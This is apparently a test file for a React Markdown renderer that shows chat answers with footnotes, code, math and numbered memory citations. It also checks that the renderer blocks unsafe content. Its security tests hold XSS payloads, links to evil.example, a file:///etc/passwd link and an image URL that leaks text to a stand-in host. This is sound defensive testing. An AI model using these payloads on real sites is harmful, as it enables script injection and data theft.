import { fireEvent, render, screen } from "@testing-library/react";
import { IntlProvider } from "use-intl";
import { describe, expect, it, vi } from "vitest";
import en from "@/i18n/en";
import { OpenMemory } from "./Citation";
import { Markdown } from "./Markdown";

function show(
  text: string,
  more: { streaming?: boolean; cites?: readonly number[]; open?: (number: number) => void } = {},
) {
  const { open, ...rest } = more;
  return render(
    <IntlProvider locale="en" messages={en} timeZone="UTC">
      <OpenMemory value={open ?? null}>
        <Markdown text={text} {...rest} />
      </OpenMemory>
    </IntlProvider>,
  ).container;
}

it("has footnotes by their numbers, with no arrow that leads nowhere", async () => {
  const answer = show("Pastry.[^1]\n\n[^1]: Of the good kind.");
  await screen.findByText(/Of the good kind/);
  expect(answer).not.toHaveTextContent("↩");
  expect(answer.querySelector("sup")).toHaveTextContent("1");
  expect(answer.querySelector("a, button")).toBeNull();
});

describe("what an answer cannot do", () => {
  it.each([
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    '<form action="https://evil.example"><input name=a></form>',
  ])("makes no element of %s", (html) => {
    const page = show(`Look: ${html}\n\n${html}`);
    expect(page.querySelector("script, img, iframe, style, a, svg, form, input")).toBeNull();
    expect(page.innerHTML).not.toMatch(/<[^>]+\son\w+=/i);
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "/settings",
    "#m-1",
  ])("links nowhere with %s", (address) => {
    expect(show(`[press](${address}) and <${address}>`).querySelector("a[href]")).toBeNull();
  });

  it("opens links elsewhere, which learn nothing of us", () => {
    const link = show("[docs](https://example.org/a)").querySelector("a");
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(link).toHaveAttribute("target", "_blank");
  });

  it.each([
    "![cat](https://evil.example/p.png?leak=words)",
    "![cat](data:image/png;base64,AAAA)",
    "![cat](/api/export)",
    "![cat][1]\n\n[1]: https://evil.example/p.png",
  ])("loads no image by itself: %s", (text) => {
    expect(show(text).querySelector("img, iframe, picture, video")).toBeNull();
  });

  it("shows an image when it is asked to, in a frame without rights", () => {
    const page = show("![a cat](https://images.example/cat.png)");
    fireEvent.click(screen.getByRole("button", { name: "Show image from images.example" }));
    const frame = page.querySelector("iframe");
    expect(frame).toHaveAttribute(
      "src",
      `/remote-image?url=${encodeURIComponent("https://images.example/cat.png")}`,
    );
    expect(frame).toHaveAttribute("sandbox", "");
  });
});

describe("what an answer can show", () => {
  it("tables, in a frame that scrolls", () => {
    const page = show("| a | b |\n|---|---|\n| 1 | 2 |");
    expect(page.querySelector(".table-scroll > table")).not.toBeNull();
  });

  it("code with its language and a way to copy it", () => {
    const page = show("```python\nprint(1)\n```");
    expect(page.querySelector("figcaption")?.textContent).toContain("python");
    expect(page.querySelector("pre")?.textContent).toBe("print(1)");
    expect(screen.getByRole("button", { name: "Copy" })).toBeInTheDocument();
  });

  it("code that is still being written as code", () => {
    expect(show("So:\n\n```js\nconst a = 1;", { streaming: true }).querySelector("pre")?.textContent).toBe(
      "const a = 1;",
    );
  });

  it("emphasis that is still open, without its marks", () => {
    const page = show("This is **very impor", { streaming: true });
    expect(page.querySelector("strong")?.textContent).toBe("very impor");
    expect(page.textContent).not.toContain("*");
  });

  it("mathematics as it was meant", () => {
    const page = show("Let $a_1 \\le b_1$ and \\(x^2\\). It costs $5 or $6.");
    const formulas = [...page.querySelectorAll(".formula")].map((each) => each.textContent);
    expect(formulas).toEqual(["a₁ ≤ b₁", "x²"]);
    expect(page.textContent).toContain("It costs $5 or $6.");
    expect(page.querySelector("em")).toBeNull();
  });

  it("a formula that plain signs cannot say, as it was written", () => {
    const page = show("$$\\begin{pmatrix} a & b \\end{pmatrix}$$");
    expect(page.querySelector(".formula-display")?.textContent).toBe("\\begin{pmatrix} a & b \\end{pmatrix}");
  });

  it("what it cites, as numbers that open the memory", () => {
    const open = vi.fn();
    const page = show("Ada turns 40 on 3 June [1], and code[2] `x[1]` stays. Not [7].", {
      cites: [1, 2],
      open,
    });
    fireEvent.click(screen.getByRole("button", { name: "Memory 1" }));
    expect(open).toHaveBeenCalledWith(1);
    expect(page.querySelector("mark")?.textContent).toContain("3 June");
    expect(page.textContent).toContain("x[1]");
    expect(page.textContent).toContain("Not [7].");
  });

  it("numbers of what it was given alone, however they run", () => {
    const open = vi.fn();
    const page = show("Ada [12], forty [4, 12], no meat [1] and [4, 5] and [0].", { cites: [4, 12], open });
    const cited = screen.getAllByRole("button").map((button) => button.getAttribute("aria-label"));
    expect(cited).toEqual(["Memory 12", "Memory 4", "Memory 12"]);
    fireEvent.click(screen.getByRole("button", { name: "Memory 4" }));
    expect(open.mock.calls).toEqual([[4]]);
    expect(page.textContent).toContain("no meat [1] and [4, 5] and [0].");
  });

  it("no numbers where nothing was given by number", () => {
    show("As you said [1].");
    expect(screen.queryByRole("button")).toBeNull();
  });
});
